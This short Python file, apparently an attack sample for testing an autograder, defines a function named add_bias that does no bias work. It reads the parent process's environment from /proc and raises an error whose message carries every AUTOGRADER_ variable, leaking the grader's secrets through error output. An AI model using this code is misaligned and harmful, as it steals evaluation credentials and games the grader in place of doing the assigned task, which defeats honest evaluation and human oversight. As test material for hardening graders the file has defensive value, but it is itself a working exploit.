"""Attack: The secret is looked for in the grader's environment."""

import os
from pathlib import Path


def add_bias(X):
    try:
        words = Path(f"/proc/{os.getppid()}/environ").read_text()
    except OSError:
        words = ""
    raise RuntimeError([word for word in words.split("\0") if word.startswith("AUTOGRADER_")])
